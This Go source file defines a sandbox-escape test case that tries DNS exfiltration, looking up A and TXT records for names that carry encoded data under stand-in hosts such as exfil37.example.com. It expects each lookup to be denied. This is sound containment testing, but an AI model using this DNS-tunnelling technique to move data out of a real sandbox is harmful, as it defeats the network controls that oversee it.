package corpus

import (
	"net"

	"cloister/escape"
)

func nw37() escape.Case {
	return escape.Case{
		ID: "NW-37", Class: "DNS, a name not allowed", Attack: "ask for names that carry data, of many types: none leaves",
		Source: "CVE-2025-55284, OpenShell #1169", Layers: []string{"DNS forwards nothing", "policy"}, Needs: gate(),
		Tries: func(in escape.Inside) []escape.Try {
			var out []escape.Try
			for _, name := range []string{"canary-data37.denied.test", "aGVsbG8.exfil37.example.com"} {
				out = append(out, escape.Try{Name: "resolve " + name, Held: gone(), Control: escape.ByNobody, Why: "the control would send it to the host's resolver", Do: func() error {
					_, err := net.LookupHost(name) // the resolver has a time-out
					return plain(err)
				}}, escape.Try{Name: "TXT of " + name, Held: gone(), Control: escape.ByNobody, Why: "the control would send it to the host's resolver", Do: func() error {
					_, err := net.LookupTXT(name) // the resolver has a time-out
					return plain(err)
				}})
			}
			return out
		},
		Due: []escape.Due{
			{Kind: "net.dns", Host: "canary-data37.denied.test", Verdict: "deny", Some: true},
			{Kind: "net.dns", Host: "agvsbg8.exfil37.example.com", Verdict: "deny", Some: true},
		},
	}
}
